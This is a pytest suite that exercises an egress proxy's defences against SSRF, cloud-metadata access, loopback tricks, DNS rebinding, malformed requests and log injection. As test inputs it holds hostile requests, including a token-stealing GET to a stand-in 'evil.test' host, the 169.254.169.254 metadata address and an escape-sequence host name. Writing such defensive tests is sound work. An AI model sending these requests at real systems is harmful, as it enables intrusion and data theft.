"""The proxy on the wire, driven by raw sockets (no browser)."""

from __future__ import annotations

import logging
import socket
from collections.abc import Iterator

import pytest

from leadreel.integrations.egress import EgressProxy
from tests.screenshots.conftest import SITE_IP, Canary, Page, Site, make_resolver


def _exchange(proxy: EgressProxy, request: bytes) -> bytes:
    with socket.create_connection(proxy.address, timeout=5) as sock:
        sock.sendall(request)
        chunks = []
        while True:
            try:
                data = sock.recv(65536)
            except TimeoutError:
                break
            if not data:
                break
            chunks.append(data)
            if request.startswith(b"CONNECT") and b"\r\n\r\n" in b"".join(chunks):
                break
        return b"".join(chunks)


def _connect(proxy: EgressProxy, target: str) -> bytes:
    return _exchange(proxy, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())


def _get(proxy: EgressProxy, url: str, host: str = "x") -> bytes:
    return _exchange(proxy, f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())


@pytest.fixture
def counting_proxy(site: Site) -> Iterator[tuple[EgressProxy, list[str]]]:
    calls: list[str] = []
    resolve = make_resolver()

    def resolver(host: str, port: int, *args: object) -> list:
        calls.append(host)
        return resolve(host, port, *args)

    with EgressProxy(allow=[f"{SITE_IP}:{site.port}"], resolver=resolver) as proxy:
        yield proxy, calls


def test_connect_to_loopback_literal_refused(proxy: EgressProxy, canary: Canary) -> None:
    before = canary.connections
    reply = _connect(proxy, f"127.0.0.1:{canary.port}")
    assert reply.startswith(b"HTTP/1.1 403")
    assert b"X-Egress-Refused: port" in reply  # canary port is not 80/443
    reply = _connect(proxy, "127.0.0.1:443")
    assert reply.startswith(b"HTTP/1.1 403") and b"loopback" in reply
    assert canary.connections == before


@pytest.mark.parametrize(
    ("target", "reason"),
    [
        ("evil.test:443", b"loopback"),
        ("metadata.test:80", b"cloud metadata"),
        ("mapped.test:443", b"IPv4-mapped IPv6 of loopback"),
        ("mixed.test:443", b"private network"),  # ANY bad address refuses the host
        ("169.254.169.254:80", b"cloud metadata"),
        ("[::1]:443", b"loopback"),
        ("[::ffff:127.0.0.1]:443", b"IPv4-mapped"),
        ("nxdomain.test:443", b"dns failure"),
        ("8.8.8.8:25", b"port 25 not allowed"),
        ("accounts.google.com:443", b"denied host"),
        ("update.googleapis.com:443", b"denied host"),
        ("bad_host!:443", b"bad host"),
    ],
)
def test_connect_refusals(proxy: EgressProxy, target: str, reason: bytes) -> None:
    reply = _connect(proxy, target)
    assert reply.startswith(b"HTTP/1.1 403"), reply
    assert reason in reply, reply


def test_plain_http_to_hostname_resolving_to_loopback_refused(
    proxy: EgressProxy, canary: Canary, caplog: pytest.LogCaptureFixture
) -> None:
    before = canary.connections
    with caplog.at_level(logging.WARNING, logger="leadreel.egress"):
        reply = _get(proxy, f"http://evil.test:{canary.port}/steal?token=SECRET123")
    assert reply.startswith(b"HTTP/1.1 403")
    assert canary.connections == before
    logged = caplog.text
    assert "evil.test" in logged and "SECRET123" not in logged and "/steal" not in logged


def test_allowed_site_forwarded_in_origin_form(proxy: EgressProxy, site: Site) -> None:
    site.pages["/hello"] = Page("<h1>hi</h1>")
    reply = _get(proxy, f"http://good.test:{site.port}/hello?x=1", host="good.test")
    head, _, body = reply.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200") or head.startswith(b"HTTP/1.0 200")
    assert b"Connection: close" in head
    assert body == b"<h1>hi</h1>"
    assert site.requests[-1] == "/hello?x=1"  # origin form reached the server


def test_connect_tunnel_to_allowed_site(proxy: EgressProxy, site: Site) -> None:
    site.pages["/tunnel"] = Page("through")
    with socket.create_connection(proxy.address, timeout=5) as sock:
        sock.sendall(f"CONNECT good.test:{site.port} HTTP/1.1\r\n\r\n".encode())
        assert sock.recv(4096).startswith(b"HTTP/1.1 200")
        sock.sendall(b"GET /tunnel HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := sock.recv(4096):
            data += chunk
    assert data.endswith(b"through")


def test_allow_rule_is_checked_against_resolved_address_and_port(
    proxy: EgressProxy, site: Site
) -> None:
    # Same allowed port but a name resolving to 127.0.0.1: not the allowed socket.
    assert _connect(proxy, f"evil.test:{site.port}").startswith(b"HTTP/1.1 403")
    # The allowed address on another port.
    assert _connect(proxy, f"{SITE_IP}:{site.port + 1}").startswith(b"HTTP/1.1 403")


def test_resolves_once_and_connects_to_that_address(
    counting_proxy: tuple[EgressProxy, list[str]], site: Site
) -> None:
    """DNS rebinding: the name is looked up once per request, then the vetted IP is used."""
    proxy, calls = counting_proxy
    site.pages["/once"] = Page("once")
    reply = _get(proxy, f"http://good.test:{site.port}/once")
    assert reply.endswith(b"once")
    assert calls == ["good.test"]


def test_rebinding_resolver_cannot_switch_address(site: Site, canary: Canary) -> None:
    answers = iter([SITE_IP, "127.0.0.1"])

    def rebinding(host: str, port: int, *args: object) -> list:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(answers), port))]

    site.pages["/rebind"] = Page("first answer")
    before = canary.connections
    with EgressProxy(allow=[f"{SITE_IP}:{site.port}"], resolver=rebinding) as proxy:
        assert _get(proxy, f"http://rebind.test:{site.port}/rebind").endswith(b"first answer")
        assert _get(proxy, f"http://rebind.test:{canary.port}/").startswith(b"HTTP/1.1 403")
    assert canary.connections == before


@pytest.mark.parametrize(
    ("request_line", "status"),
    [
        (b"GET /relative HTTP/1.1", b"400"),
        (b"GET https://good.test/ HTTP/1.1", b"400"),
        (b"GET ftp://good.test/ HTTP/1.1", b"400"),
        (b"GET http://user:pw@good.test/ HTTP/1.1", b"403"),
        (b"GET http:///nohost HTTP/1.1", b"403"),
        (b"CONNECT good.test:notaport HTTP/1.1", b"403"),
        (b"NONSENSE", b"400"),
    ],
)
def test_malformed_requests(proxy: EgressProxy, request_line: bytes, status: bytes) -> None:
    reply = _exchange(proxy, request_line + b"\r\nHost: x\r\n\r\n")
    assert reply.split(b" ")[1] == status, reply


def test_stop_cuts_open_tunnels(site: Site) -> None:
    proxy = EgressProxy(allow=[f"{SITE_IP}:{site.port}"], resolver=make_resolver()).start()
    with socket.create_connection(proxy.address, timeout=5) as sock:
        sock.sendall(f"CONNECT good.test:{site.port} HTTP/1.1\r\n\r\n".encode())
        assert sock.recv(4096).startswith(b"HTTP/1.1 200")
        proxy.stop()
        assert sock.recv(4096) == b""
    proxy.stop()  # idempotent
    with pytest.raises(RuntimeError):
        _ = proxy.address


def test_constructor_validates() -> None:
    with pytest.raises(ValueError, match="ports"):
        EgressProxy(ports=[0])
    with pytest.raises(ValueError, match="allow rule"):
        EgressProxy(allow=["good.test"])
    with pytest.raises(ValueError, match="timeouts"):
        EgressProxy(connect_timeout=0)


def test_deny_ports_win_over_allow_rules(site: Site) -> None:
    with EgressProxy(allow=["127.0.0.0/8"], deny_ports=[site.port]) as proxy:
        reply = _connect(proxy, f"{SITE_IP}:{site.port}")
        assert reply.startswith(b"HTTP/1.1 403") and b"denied" in reply


def test_refusal_log_is_sanitised(proxy: EgressProxy) -> None:
    _exchange(proxy, b"CONNECT \x1b[31mevil\x07.test:443 HTTP/1.1\r\n\r\n")
    host = proxy.refusal_log()[-1].host
    assert host.isascii() and host.isprintable() and "\x1b" not in host
